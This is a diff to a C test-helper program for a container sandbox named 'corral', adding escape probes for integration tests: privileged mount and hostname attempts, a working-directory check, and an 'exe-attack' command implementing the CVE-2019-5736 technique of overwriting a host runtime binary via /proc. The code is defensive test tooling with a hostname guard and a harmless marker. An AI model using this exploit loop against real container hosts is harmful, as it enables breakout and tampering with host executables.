@@ -20,6 +20,11 @@
  *   probe mounts            JSON: mounts from /proc/self/mountinfo
  *   probe sysctl NAME       print /proc/sys/NAME (dots or slashes)
  *   probe whoami            JSON: ids, groups and the user name from /etc/passwd
+ *   probe try OP ARG        JSON: result of umount, remount-rw, mount-tmpfs,
+ *                           sethostname or open-write ("OK" or the errno name)
+ *   probe cwd               JSON: cwd, whether it is reachable, whether it is "/"
+ *   probe exe-attack S [F]  CVE-2019-5736 attacker: for S seconds, try to
+ *                           overwrite other processes' executables
  *
  * Failures print "probe: WHAT: ENAME (message)" on stderr and exit 1; a usage
  * error exits 2. JSON goes to stdout on one line. Modes are octal strings
@@ -42,6 +47,7 @@
 #include <string.h>
 #include <sys/ioctl.h>
 #include <sys/mman.h>
+#include <sys/mount.h>
 #include <sys/resource.h>
 #include <sys/stat.h>
 #include <sys/sysmacros.h>
@@ -1000,6 +1006,201 @@ static int cmd_whoami(int argc, char **argv)
 }
 
 /* ------------------------------------------------------------------------ */
+/* Escape attempts (tests/integration/escape_test.cpp)                       */
+
+/* The escape probes below change or attack what they can reach: they run
+ * only in a test container, whose hostname the tests set to "corral" (the
+ * fixture config's), never by accident on a host. */
+static void require_test_container(const char *what)
+{
+    char host[256] = "";
+    if (gethostname(host, sizeof host) != 0 || strcmp(host, "corral") != 0)
+        usage_error("%s: refusing to run outside a test container (hostname '%s', not 'corral')", what, host);
+}
+
+/* probe try OP ARG: attempt one privileged or forbidden operation and print
+ * {"op", "arg", "result"}: "OK" if it worked, else the errno name. Exits 0
+ * either way: the test judges the result. */
+static int cmd_try(int argc, char **argv)
+{
+    if (argc < 4)
+        usage_error("usage: probe try umount|umount-detach|remount-rw|mount-tmpfs|sethostname|open-write ARG");
+    const char *op = argv[2], *arg = argv[3];
+    require_test_container("try");
+    int r;
+    if (!strcmp(op, "umount"))
+        r = umount2(arg, 0);
+    else if (!strcmp(op, "umount-detach"))
+        r = umount2(arg, MNT_DETACH);
+    else if (!strcmp(op, "remount-rw")) /* clear the mount's read-only flag */
+        r = mount(NULL, arg, NULL, MS_REMOUNT | MS_BIND, NULL);
+    else if (!strcmp(op, "mount-tmpfs"))
+        r = mount("tmpfs", arg, "tmpfs", 0, NULL);
+    else if (!strcmp(op, "sethostname"))
+        r = sethostname(arg, strlen(arg));
+    else if (!strcmp(op, "open-write")) {
+        r = open(arg, O_WRONLY | O_CLOEXEC);
+        if (r >= 0)
+            close(r);
+    } else
+        usage_error("try: unknown operation '%s'", op);
+    int err = errno;
+    json_begin_object(NULL);
+    json_str("op", op);
+    json_str("arg", arg);
+    json_str("result", r < 0 ? errno_name(err) : "OK");
+    json_end_object();
+    return 0;
+}
+
+/* probe cwd: {"cwd", "reachable", "is_root"}. getcwd() prefixes a directory
+ * outside our root with "(unreachable)"; is_root: "." is our "/". */
+static int cmd_cwd(int argc, char **argv)
+{
+    (void)argc, (void)argv;
+    char cwd[PATH_MAX];
+    struct stat dot, root;
+    bool have = getcwd(cwd, sizeof cwd) != NULL;
+    int err = errno;
+    bool is_root = stat(".", &dot) == 0 && stat("/", &root) == 0 && dot.st_dev == root.st_dev &&
+                   dot.st_ino == root.st_ino;
+    json_begin_object(NULL);
+    json_str("cwd", have ? cwd : NULL);
+    if (!have)
+        json_str("errno", errno_name(err));
+    json_bool("reachable", have && strncmp(cwd, "(unreachable)", 13) != 0);
+    json_bool("is_root", is_root);
+    json_end_object();
+    return 0;
+}
+
+static volatile sig_atomic_t exe_attack_stop;
+static void stop_exe_attack(int sig) { (void)sig, exe_attack_stop = 1; }
+
+/* One executable of another process that lies outside our root. */
+struct exe_target {
+    int pid;
+    int fd; /* O_RDONLY, through /proc/PID/exe */
+    char exe[PATH_MAX];
+    const char *write; /* NULL: not tried yet; "ETXTBSY" is retried */
+    bool final;
+};
+
+/* A runtime binary a container process can reach through /proc/PID/exe is
+ * CVE-2019-5736: open it read-only, wait until nothing executes it (ETXTBSY)
+ * and reopen it for writing through /proc/self/fd. This scans /proc for
+ * SECONDS (or until SIGTERM, or a write succeeded), opening the exe of every
+ * other process; an exe that is not a file of our own root (different inode
+ * at its path, or no such path) is foreign, and is attacked: a successful
+ * write puts "#!corral-pwned" at offset 0.
+ * FIFO (optional): opened for reading once a foreign exe is held, which
+ * releases a victim blocked opening it for writing (`--log FIFO`).
+ * Prints "ready", then one JSON line: {"targets": [{pid, exe, write}],
+ * "denied": number of /proc/PID/exe opens refused (EACCES/EPERM)}. */
+static int cmd_exe_attack(int argc, char **argv)
+{
+    if (argc < 3)
+        usage_error("usage: probe exe-attack SECONDS [FIFO]");
+    char *end;
+    double seconds = strtod(argv[2], &end);
+    if (end == argv[2] || *end || seconds <= 0)
+        usage_error("exe-attack: not a number of seconds: '%s'", argv[2]);
+    const char *fifo = argc > 3 ? argv[3] : NULL;
+    require_test_container("exe-attack");
+    struct stat self;
+    if (stat("/proc/self/exe", &self) != 0)
+        die("stat /proc/self/exe");
+    pid_t me = getpid();
+    struct exe_target targets[32];
+    int ntargets = 0, fifo_fd = -1;
+    long denied = 0;
+    signal(SIGTERM, stop_exe_attack); /* we may be pid 1: only handled signals arrive */
+    printf("ready\n");
+    fflush(stdout);
+    double deadline = clock_seconds(CLOCK_MONOTONIC) + seconds;
+    bool written = false;
+    while (!exe_attack_stop && !written && clock_seconds(CLOCK_MONOTONIC) < deadline) {
+        DIR *proc = opendir("/proc");
+        if (!proc)
+            die("opendir /proc");
+        for (struct dirent *e; (e = readdir(proc)) && ntargets < 32;) {
+            char *pend;
+            long pid = strtol(e->d_name, &pend, 10);
+            if (*pend || pid <= 0 || pid == me)
+                continue;
+            bool known = false;
+            for (int i = 0; i < ntargets; i++)
+                known |= targets[i].pid == pid;
+            if (known)
+                continue;
+            char path[64];
+            snprintf(path, sizeof path, "/proc/%ld/exe", pid);
+            int fd = open(path, O_RDONLY | O_CLOEXEC);
+            if (fd < 0) {
+                if (errno == EACCES || errno == EPERM)
+                    denied++;
+                continue;
+            }
+            struct stat st, at_path;
+            char exe[PATH_MAX];
+            ssize_t n = readlink(path, exe, sizeof exe - 1);
+            exe[n < 0 ? 0 : n] = '\0';
+            bool ours = fstat(fd, &st) != 0 || (st.st_dev == self.st_dev && st.st_ino == self.st_ino) ||
+                        (n > 0 && stat(exe, &at_path) == 0 && at_path.st_dev == st.st_dev &&
+                         at_path.st_ino == st.st_ino);
+            if (ours) {
+                close(fd);
+                continue;
+            }
+            struct exe_target *t = &targets[ntargets++];
+            t->pid = (int)pid;
+            t->fd = fd;
+            snprintf(t->exe, sizeof t->exe, "%s", exe);
+            t->write = NULL;
+            t->final = false;
+            if (fifo && fifo_fd < 0)
+                fifo_fd = open(fifo, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
+        }
+        closedir(proc);
+        for (int i = 0; i < ntargets; i++) {
+            struct exe_target *t = &targets[i];
+            if (t->final)
+                continue;
+            char path[64];
+            snprintf(path, sizeof path, "/proc/self/fd/%d", t->fd);
+            int w = open(path, O_WRONLY | O_CLOEXEC);
+            if (w < 0) {
+                t->write = errno_name(errno);
+                t->final = errno != ETXTBSY;
+            } else {
+                static const char mark[] = "#!corral-pwned\n";
+                ssize_t n = pwrite(w, mark, sizeof mark - 1, 0);
+                t->write = n == (ssize_t)(sizeof mark - 1) ? "OK" : errno_name(n < 0 ? errno : EIO);
+                t->final = true;
+                written |= n > 0;
+                close(w);
+            }
+        }
+        usleep(2000);
+    }
+    json_begin_object(NULL);
+    json_begin_array("targets");
+    for (int i = 0; i < ntargets; i++) {
+        json_begin_object(NULL);
+        json_int("pid", targets[i].pid);
+        json_str("exe", targets[i].exe);
+        json_str("write", targets[i].write);
+        json_end_object();
+    }
+    json_end_array();
+    json_int("denied", denied);
+    json_end_object();
+    if (fifo_fd >= 0)
+        close(fifo_fd);
+    return 0;
+}
+
+/* ------------------------------------------------------------------------ */
 
 static const struct command {
     const char *name;
@@ -1010,6 +1211,7 @@ static const struct command {
     {"tty", cmd_tty},       {"fds", cmd_fds},         {"env", cmd_env},       {"memhog", cmd_memhog},
     {"cpuburn", cmd_cpuburn}, {"forkbomb", cmd_forkbomb}, {"mounts", cmd_mounts}, {"sysctl", cmd_sysctl},
     {"whoami", cmd_whoami},
+    {"try", cmd_try},       {"cwd", cmd_cwd},         {"exe-attack", cmd_exe_attack},
 };
 
 int main(int argc, char **argv)
